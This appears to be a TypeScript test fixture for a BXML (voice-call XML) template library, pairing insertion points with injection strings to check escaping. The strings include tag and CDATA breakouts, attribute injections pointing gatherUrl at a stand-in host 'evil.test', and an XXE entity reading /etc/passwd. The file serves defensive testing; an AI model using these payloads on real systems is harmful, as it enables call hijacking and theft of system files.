import { type Bxml, bxml } from 'nestjs-bandwidth-callbacks';

/** Every place a value can stand at; each document holds one verb. */
export const PLACES: Readonly<Record<string, (value: string) => Bxml>> = {
  text: (value) => bxml`<Response><SpeakSentence>Hello ${value}.</SpeakSentence></Response>`,
  'text behind brackets': (value) => bxml`<Response><SpeakSentence>]]${value}></SpeakSentence></Response>`,
  'a double-quoted attribute': (value) => bxml`<Response><Gather tag="a ${value} b"/></Response>`,
  'a single-quoted attribute': (value) => bxml`<Response><Gather tag='${value}' maxDigits="1"/></Response>`,
  'a CDATA section': (value) => bxml`<Response><Say><![CDATA[${value}${value}]]></Say></Response>`,
  'a comment': (value) => bxml`<Response><!-- ${value}${value} --><Hold/></Response>`,
  'a tight comment': (value) => bxml`<Response><!--${value}--><Hold/></Response>`,
  'a nested template': (value) =>
    bxml`<Response><Gather>${bxml`<SpeakSentence>${value}</SpeakSentence>`}</Gather></Response>`,
  'a list of templates': (value) =>
    bxml`<Response><Gather>${[value, bxml`<Say x="${value}"/>`, value]}</Gather></Response>`,
  'a list of texts': (value) => bxml`<Response><SpeakSentence>${[value, [value]]}</SpeakSentence></Response>`,
};

export const ATTACKS: readonly (readonly [attack: string, digits: string])[] = [
  ['a closing tag', '</SpeakSentence><Hangup/><SpeakSentence>'],
  ['the end of the document', '</SpeakSentence></Response><!--'],
  ['a double quote', '" gatherUrl="https://evil.test/'],
  ['a single quote', "' gatherUrl='https://evil.test/"],
  ['the end of a tag', '"/><Hangup/><Gather tag="'],
  ['the end of a CDATA section', ']]></Say><Hangup/><Say><![CDATA['],
  ['half the end of a CDATA section', ']]'],
  ['a third of it', ']'],
  ['the rest of it', ']>'],
  ['the end of a comment', '--><Hangup/><!--'],
  ['half the end of a comment', '-'],
  ['the rest of it', '->'],
  ['a character reference', '&#60;Hangup/&#62;'],
  ['an entity', '&lt;Hangup/&gt;&evil;'],
  ['an entity cut off', '&'],
  ['an external entity', '<!DOCTYPE x [<!ENTITY evil SYSTEM "file:///etc/passwd">]>'],
  ['an instruction', '<?xml version="1.0"?><?evil?>'],
  ['a CDATA section', '<![CDATA[<Hangup/>]]>'],
  ['NUL and its kin', '\0\u0001\u000B\uFFFE'],
  ['a lone surrogate', '\uD83D<\uDE00'],
  ['line breaks', '\r\n\t\u0085\u2028'],
  ['a template of its own', '${context.payload}'],
  ['fullwidth signs', '＜Hangup／＞'],
];
